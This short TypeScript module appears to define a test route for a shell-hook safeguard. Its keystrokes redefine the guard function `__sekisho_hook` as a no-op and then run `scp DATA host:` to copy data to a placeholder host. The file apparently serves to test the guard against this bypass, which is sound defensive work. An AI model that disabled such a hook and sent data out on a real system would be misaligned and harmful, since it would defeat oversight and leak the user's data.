import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'redefining the hook',
  source: 'attempts to get round a hook of the shell',
  keys: ['__sekisho_hook() { :; }\r', 'scp DATA host:\r'],
};
